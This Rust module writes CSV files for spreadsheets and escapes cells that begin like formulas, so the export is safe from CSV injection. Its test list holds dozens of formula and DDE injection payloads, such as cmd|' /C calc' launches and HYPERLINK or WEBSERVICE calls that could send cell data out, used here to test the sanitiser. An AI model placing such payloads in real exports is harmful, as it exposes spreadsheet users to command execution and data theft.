//! Tables for spreadsheets: RFC 4180 in UTF-8 with a byte order mark, and no cell that a spreadsheet would run.

use std::borrow::Cow;

use ::csv::{Terminator, WriterBuilder};

use crate::{Error, Result};

/// Tells spreadsheets that the text is UTF-8.
const BOM: &str = "\u{feff}";

/// The file for these rows, of which the first is the heading.
///
/// # Errors
/// When the rows differ in length.
pub fn write(rows: impl IntoIterator<Item = Vec<String>>) -> Result<Vec<u8>> {
    let mut writer = WriterBuilder::new().terminator(Terminator::CRLF).from_writer(BOM.as_bytes().to_vec());
    for row in rows {
        writer.write_record(row.iter().map(|cell| inert(cell).into_owned())).map_err(Error::internal)?;
    }
    writer.into_inner().map_err(|error| Error::internal(error.into_error()))
}

/// The cell, with an apostrophe before it if a spreadsheet would take it for a formula.
fn inert(cell: &str) -> Cow<'_, str> {
    let begins_formula = |c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0' | '＝' | '＋' | '－' | '＠');
    if cell.starts_with(begins_formula) { format!("'{cell}").into() } else { cell.into() }
}

#[cfg(test)]
mod tests {
    use super::*;

    const EVIL: [&str; 60] = [
        "=1+1",
        "=1+1|",
        "==1",
        "= 1",
        "=A1",
        "=\"a\"",
        "='a'!A1",
        "=cmd|' /C calc'!A0",
        "=cmd|'/c calc.exe'!A1",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=HYPERLINK(\"http://example.com?\"&A1,\"x\")",
        "=IMPORTXML(\"http://example.com\",\"//a\")",
        "=IMPORTDATA(\"http://example.com\")",
        "=IMPORTRANGE(\"a\",\"b\")",
        "=IMAGE(\"http://example.com\")",
        "=WEBSERVICE(\"http://example.com\")",
        "=FILTERXML(A1,\"//a\")",
        "=INDIRECT(\"A1\")",
        "=RTD(\"a\",,\"b\")",
        "=CALL(\"a\",\"b\",\"c\")",
        "=REGISTER(\"a\")",
        "=EXEC(\"calc\")",
        "=FORMULA(\"a\")",
        "=SUM(1,1)",
        "=SUM(1;1)",
        "={1;2}",
        "=1\n=2",
        "=1,2",
        "=\u{a0}1",
        "=-1",
        "+1",
        "+1+1",
        "+A1",
        "+cmd|' /C calc'!A0",
        "+SUM(1,1)",
        "+31 20 000 00 00",
        "+\"a\"",
        "-1",
        "-1+1",
        "-A1",
        "-2+3+cmd|' /C calc'!A0",
        "-SUM(1,1)",
        "-\"a\"",
        "--1",
        "-",
        "@A1",
        "@SUM(1,1)",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@name",
        "\t=1+1",
        "\tcmd",
        "\r=1+1",
        "\r\n=1+1",
        "\n=1+1",
        "\0=1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
        "=\u{202e}1",
    ];

    fn read(file: &[u8]) -> Vec<Vec<String>> {
        let text = std::str::from_utf8(file).unwrap().strip_prefix(BOM).expect("begins with the mark");
        let mut reader = ::csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        reader.records().map(|row| row.unwrap().iter().map(ToOwned::to_owned).collect()).collect()
    }

    #[test]
    fn f11_no_cell_begins_like_a_formula() {
        let rows = read(&write(EVIL.map(|cell| vec![cell.to_owned(), "x".to_owned()])).unwrap());
        assert_eq!(rows.len(), EVIL.len());
        for (row, cell) in rows.iter().zip(EVIL) {
            assert_eq!(row[0], format!("'{cell}"), "only the apostrophe is added");
        }
    }

    #[test]
    fn other_cells_come_back_as_they_were() {
        let harmless = [
            "",
            "Employee 012",
            "a,b",
            "a\"b",
            "a\r\nb",
            " =1",
            "'=1",
            "0012",
            "é, ü and 漢",
            "a=b",
            "1-1",
            "\u{feff}",
        ];
        let rows = read(&write([harmless.map(ToOwned::to_owned).to_vec()]).unwrap());
        assert_eq!(rows, [harmless]);
    }

    #[test]
    fn lines_end_and_quotes_are_as_in_rfc_4180() {
        let row = |cells: [&str; 2]| cells.map(ToOwned::to_owned).to_vec();
        let file = write([row(["name", "team"]), row(["say \"hi\"", "a,b"])]).unwrap();
        assert_eq!(String::from_utf8(file).unwrap(), "\u{feff}name,team\r\n\"say \"\"hi\"\"\",\"a,b\"\r\n");
    }
}
